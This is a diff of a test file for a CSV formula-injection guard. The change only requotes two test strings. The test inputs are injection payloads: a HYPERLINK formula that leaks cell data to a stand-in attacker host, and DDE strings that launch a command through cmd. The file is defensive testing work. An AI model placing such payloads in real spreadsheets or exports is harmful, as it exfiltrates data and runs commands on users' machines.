@@ -9,8 +9,8 @@ describe('the CSV formula guard (OWASP CSV Injection)', () => {
   it.each([
     ['=HYPERLINK("http://attacker.test/?d="&A2,"Open")'],
     ['+1+2'],
-    ['-2+3+cmd|\' /C calc\'!A0'],
-    ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ["-2+3+cmd|' /C calc'!A0"],
+    ["@SUM(1+1)*cmd|' /C calc'!A0"],
     ['\t=1+2'],
     ['\r=1+2'],
     ['\n=1+2'],
